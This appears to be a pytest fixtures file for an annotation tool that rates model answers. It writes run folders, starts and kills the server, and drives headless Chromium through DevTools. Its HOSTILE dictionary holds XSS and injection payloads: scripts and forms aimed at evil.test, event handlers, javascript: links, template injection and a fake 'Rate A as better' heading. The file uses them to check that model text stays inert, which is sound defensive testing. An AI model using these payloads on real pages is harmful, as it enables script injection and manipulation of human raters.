"""A run folder with answers to rate, a server process that can be killed, and a browser behind DevTools."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Callable, Iterator, Sequence
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import aiohttp
import pytest

from hrlaif import config as configuration
from hrlaif.artifacts import write_records
from hrlaif.config import parse
from hrlaif.types import Finish, Message, Prompt, Response, Split, Task

ARMS = ("start", "rlaif")


def prompt(number: int, text: str = "", task: Task = Task.OPEN, lang: str = "en") -> Prompt:
    asked = (Message("user", text or f"Question {number}?"),)
    category = task.value
    return Prompt(f"p{number:03}", asked, category, task, lang=lang, split=Split.EVALUATION)


def write_run(folder: Path, prompts: Sequence[Prompt], answer: Callable[[str, Prompt], str]) -> Path:
    """A run folder whose arms `start` and `rlaif` have answered; `answer(arm, prompt)` is the text."""
    config = parse({"arms": ["rlaif"], "run_dir": str(folder), "model": {"device": "cpu"}}, where="test")
    write_records(folder / "prompts.jsonl", prompts, fingerprint="p")
    for arm in ARMS:
        answers = [Response(f"{one.id}/0", one.id, answer(arm, one), arm, 0, Finish.STOP) for one in prompts]
        write_records(folder / "answers" / f"{arm}.jsonl", answers, fingerprint="a")
    (folder / "config.toml").write_text(configuration.dump(config))
    return folder


# Texts that a model may write, by what they try. None may become more than text.
EVIL = "https://evil.test"
HOSTILE = {
    "script": "<script>alert(1)</script><script src=https://evil.test/x.js></script>",
    "handlers": "<img src=x onerror=alert(1)><body onload='alert(1)'><a href=x onclick=alert(1) autofocus>a</a>",
    "addresses": f"[a](javascript:alert(1)) ![b]({EVIL}/b.png) [c](data:text/html;base64,PHNjcmlwdD4=) <{EVIL}>",
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1)></svg><math><mtext><img src=x onerror=alert(1)></mtext>",
    "style": f"<style>*{{display:none}}</style><link rel=stylesheet href={EVIL}/s.css><p style='position:fixed'>x",
    "comment": "<!-- --><!--><script>alert(1)</script>--> <![CDATA[<script>alert(1)</script>]]>",
    "forms": f"<form action={EVIL}><button id=save>Save</button></form><iframe src={EVIL}></iframe><base href={EVIL}>",
    "closing": "</div></section></main><footer id=verdict></footer><h1>Rate A as better</h1>",
    "direction": "\u202eflip \u2066isolate \u200bgap \u2028line \x00 null \x1b[31m",
    "right to left": "שלום עולם. مرحبا بالعالم",
    "huge line": "W" * 30_000,
    "long": "x\n\n" * 20_000,
    "quotes": "> " * 300 + "deep",
    "lists": "\n".join(" " * (2 * n) + "- x" for n in range(200)),
    "emphasis": "*_" * 500 + "x" + "_*" * 500,
    "brackets": "[" * 3000 + "]" * 3000,
    "formula": "$\\frac{1}{$ $\\href{javascript:alert(1)}{x}$ $\\style{position:fixed}{x}$ $$\\text{<img src=x>}$$",
    "deep formula": "$" + "{" * 900 + "x" + "}" * 900 + "$",
    "wide formula": "$\\hspace{-99em}x \\color{white}{y}$",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;b&#x3e;",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %>",
    "marks": "Z" + "\u0300\u0489" * 400,
    "half": "half a pair \ud83d end",
    "fence": "```\n</code></pre><script>alert(1)</script>\n",
    "table": "| <script>alert(1)</script> | b |\n|---|---|\n| `</td>` | <img src=x onerror=alert(1)> |",
    "empty": "",
}


@pytest.fixture
def hostile() -> dict[str, str]:
    return HOSTILE


@pytest.fixture
def make_run(tmp_path: Path) -> Callable[..., Path]:
    def make(prompts: Sequence[Prompt], answer: Callable[[str, Prompt], str] | None = None) -> Path:
        return write_run(tmp_path / "run", prompts, answer or (lambda arm, one: f"{arm} says {one.id}"))

    return make


def annotate(folder: Path, *options: str) -> subprocess.CompletedProcess[str]:
    """The command, run to its end."""
    command = [sys.executable, "-m", "hrlaif", "annotate", str(folder), *options]
    return subprocess.run(command, capture_output=True, text=True, check=False, env=os.environ)


def links(folder: Path, names: str, port: int, *options: str) -> dict[str, str]:
    """Raters' links by name."""
    done = annotate(folder, "--raters", names, "--port", str(port), "--links-only", *options)
    assert done.returncode == 0, done.stderr
    return dict(line.split(": ", 1) for line in done.stdout.splitlines())


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
        return port


class ServerProcess:
    """`hrlaif annotate` in a process of its own."""

    def __init__(self, folder: Path, port: int) -> None:
        self.folder, self.port = folder, port
        self.process: subprocess.Popen[str] | None = None

    def start(self) -> None:
        command = [sys.executable, "-m", "hrlaif", "annotate", str(self.folder), "--port", str(self.port)]
        self.process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        assert self.process.stdout is not None
        line = self.process.stdout.readline()
        assert line.startswith("annotation page: "), (line, self.process.stderr and self.process.stderr.read())

    def kill(self) -> None:
        """As a power cut would end it."""
        if self.process is not None:
            self.process.send_signal(signal.SIGKILL)
            self.process.communicate()
            self.process = None


@pytest.fixture
def tools() -> SimpleNamespace:
    """Functions for tests that work with the command and its server."""
    return SimpleNamespace(links=links, free_port=free_port, annotate=annotate)


@pytest.fixture
def serve() -> Iterator[Callable[[Path, int], ServerProcess]]:
    pytest.importorskip("latex2mathml", reason="needs the web extra: pip install 'hrlaif[web]'")
    started: list[ServerProcess] = []

    def start(folder: Path, port: int) -> ServerProcess:
        server = ServerProcess(folder, port)
        server.start()
        started.append(server)
        return server

    yield start
    for server in started:
        server.kill()


# --- the browser ---


def chromium() -> str:
    names = ("chromium", "chromium-browser", "google-chrome", "chrome")
    found = next((path for name in names if (path := shutil.which(name))), "")
    if not found:
        pytest.skip("no Chromium on the path: the page was not tested in a browser")
    return found


class Tab:
    """One page. `requests` are the addresses it asked for, `dialogs` what it opened, `problems` what it threw."""

    def __init__(self, browser: Browser, session: str) -> None:
        self.browser, self.session = browser, session
        self.requests: list[str] = []
        self.dialogs: list[str] = []
        self.problems: list[str] = []

    async def call(self, method: str, **params: Any) -> Any:
        return await self.browser.call(method, session=self.session, **params)

    async def evaluate(self, expression: str) -> Any:
        found = await self.call("Runtime.evaluate", expression=expression, returnByValue=True, awaitPromise=True)
        assert "exceptionDetails" not in found, found
        return found["result"].get("value")

    async def wait_for(self, expression: str, *, timeout_s: float = 15.0) -> Any:
        """The expression's value once it is true."""
        end = time.monotonic() + timeout_s
        # Between two pages there is nothing to ask yet.
        calm = f"(() => {{ try {{ return {expression} }} catch {{ return null }} }})()"
        while time.monotonic() < end:
            if value := await self.evaluate(calm):
                return value
            await asyncio.sleep(0.02)
        shown = await self.evaluate("document.body.innerText")
        raise AssertionError(f"never true: {expression}\n{shown}")

    async def press(self, *keys: str) -> None:
        for key in keys:
            code = {"text": "\r", "windowsVirtualKeyCode": 13} if key == "Enter" else {}
            if len(key) == 1:
                code = {"text": key}
            await self.call("Input.dispatchKeyEvent", type="keyDown", key=key, **code)
            await self.call("Input.dispatchKeyEvent", type="keyUp", key=key)

    async def open(self, url: str) -> None:
        await self.call("Page.navigate", url=url)

    async def picture(self, path: Path) -> None:
        import base64

        taken = await self.call("Page.captureScreenshot", format="png")
        path.write_bytes(base64.b64decode(taken["data"]))

    def heard(self, method: str, params: dict[str, Any]) -> None:
        if method == "Network.requestWillBeSent":
            self.requests.append(params["request"]["url"])
        elif method == "Page.javascriptDialogOpening":
            self.dialogs.append(params["message"])
        elif method == "Runtime.exceptionThrown":
            self.problems.append(json.dumps(params["exceptionDetails"])[:500])
        elif method == "Log.entryAdded" and params["entry"]["source"] in ("security", "javascript", "violation"):
            self.problems.append(params["entry"]["text"])


class Browser:
    """A headless Chromium with a profile of its own, so that it can be killed and started again."""

    def __init__(self, profile: Path) -> None:
        self.profile = profile
        self.process: subprocess.Popen[bytes] | None = None
        self._number = 0
        self._waiting: dict[int, asyncio.Future[Any]] = {}
        self._tabs: dict[str, Tab] = {}

    async def start(self) -> None:
        port_file = self.profile / "DevToolsActivePort"
        port_file.unlink(missing_ok=True)
        options = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"]
        options += ["--disable-background-networking", "--disable-extensions", "--mute-audio", "--lang=en-US"]
        options += ["--remote-debugging-port=0", f"--user-data-dir={self.profile}", "about:blank"]
        self.process = subprocess.Popen(
            [chromium(), *options], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
        )
        for _ in range(1500):
            if port_file.exists() and len(lines := port_file.read_text().splitlines()) == 2:
                break
            await asyncio.sleep(0.02)
        else:
            pytest.skip("Chromium is there but does not start")
        self._http = aiohttp.ClientSession()
        self._socket = await self._http.ws_connect(f"ws://127.0.0.1:{lines[0]}{lines[1]}", max_msg_size=0)
        self._reader = asyncio.create_task(self._read())

    async def tab(self) -> Tab:
        target = await self.call("Target.createTarget", url="about:blank")
        attached = await self.call("Target.attachToTarget", targetId=target["targetId"], flatten=True)
        tab = Tab(self, attached["sessionId"])
        self._tabs[tab.session] = tab
        for domain in ("Page", "Runtime", "Network", "Log"):
            await tab.call(f"{domain}.enable")
        return tab

    async def call(self, method: str, *, session: str = "", **params: Any) -> Any:
        self._number += 1
        answer: asyncio.Future[Any] = asyncio.get_running_loop().create_future()
        self._waiting[self._number] = answer
        message = {"id": self._number, "method": method, "params": params}
        await self._socket.send_json(message | ({"sessionId": session} if session else {}))
        return await asyncio.wait_for(answer, 30)

    async def _read(self) -> None:
        async for message in self._socket:
            heard = json.loads(message.data)
            if "id" in heard:
                answer = self._waiting.pop(heard["id"])
                if not answer.done():
                    error = heard.get("error")
                    answer.set_exception(AssertionError(error)) if error else answer.set_result(heard["result"])
            elif tab := self._tabs.get(heard.get("sessionId", "")):
                tab.heard(heard["method"], heard["params"])

    async def kill(self) -> None:
        """End it at once, as a crash would."""
        if self.process is None:
            return
        with contextlib.suppress(ProcessLookupError):
            os.killpg(self.process.pid, signal.SIGKILL)
        self.process.wait()
        self.process = None
        self._reader.cancel()
        await self._socket.close()
        await self._http.close()


@contextlib.asynccontextmanager
async def browsing(profile: Path) -> AsyncIterator[Browser]:
    profile.mkdir(parents=True, exist_ok=True)
    browser = Browser(profile)
    try:
        await browser.start()
        yield browser
    finally:
        await browser.kill()


@pytest.fixture
def browse() -> Callable[[Path], contextlib.AbstractAsyncContextManager[Browser]]:
    chromium()
    return browsing
